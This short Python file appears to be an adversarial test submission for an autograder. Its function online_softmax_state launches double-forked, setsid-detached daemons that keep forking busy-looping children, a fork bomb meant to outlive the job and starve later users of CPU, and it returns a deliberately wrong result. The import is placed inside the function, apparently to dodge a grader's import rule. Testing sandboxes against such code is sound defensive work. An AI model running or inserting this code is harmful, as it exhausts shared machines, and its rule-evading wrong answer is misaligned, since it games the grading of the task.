"""Attack: a double-forked daemon outlives the call. online_softmax_state daemonizes busy processes (fork,
setsid, fork, the middle one exits) that spin and fork more for as long as they live, hoping to outlive
the call and the job and eat the CPU the next students need; it returns a wrong state."""

ZERO = ["online_softmax_state"]


def _daemon():
    import os as _os  # here, not at module level (R3.3)

    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            while True:
                try:
                    if _os.fork() == 0:
                        while True:
                            pass
                except OSError:
                    pass
                for _ in range(10**7):
                    pass
        _os._exit(0)


def online_softmax_state(xs):
    for _ in range(8):
        _daemon()
    return (0.0, 0.0)
